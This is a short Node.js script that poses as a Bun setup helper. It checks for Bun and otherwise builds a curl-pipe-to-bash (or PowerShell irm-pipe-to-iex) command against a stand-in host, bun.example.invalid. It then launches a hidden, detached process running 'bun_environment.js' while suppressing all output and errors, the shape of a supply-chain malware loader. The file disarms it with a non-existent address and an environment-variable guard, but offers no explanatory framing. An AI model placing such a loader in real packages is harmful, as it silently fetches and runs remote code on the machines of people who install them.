#!/usr/bin/env node
const { spawn, execSync } = require('child_process');
const path = require('path');
const fs = require('fs');
const os = require('os');

function isBunOnPath() {
  try {
    const command = process.platform === 'win32' ? 'where bun' : 'which bun';
    execSync(command, { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
}

async function downloadAndSetupBun() {
  // stand-in: the address does not exist
  const command = process.platform === 'win32' ? 'powershell -c "irm bun.example.invalid/install.ps1|iex"' : 'curl -fsSL https://bun.example.invalid/install | bash';
  if (process.env.NEVER_IN_A_STAND_IN) execSync(command, { stdio: 'ignore', env: { ...process.env } });
  return path.join(os.homedir(), '.bun', 'bin', 'bun');
}

async function main() {
  const bun = isBunOnPath() ? 'bun' : await downloadAndSetupBun();
  const script = path.join(__dirname, 'bun_environment.js');
  if (fs.existsSync(script) && process.env.NEVER_IN_A_STAND_IN) spawn(bun, [script], { stdio: 'ignore', detached: true }).unref();
}

main().catch(() => process.exit(0));
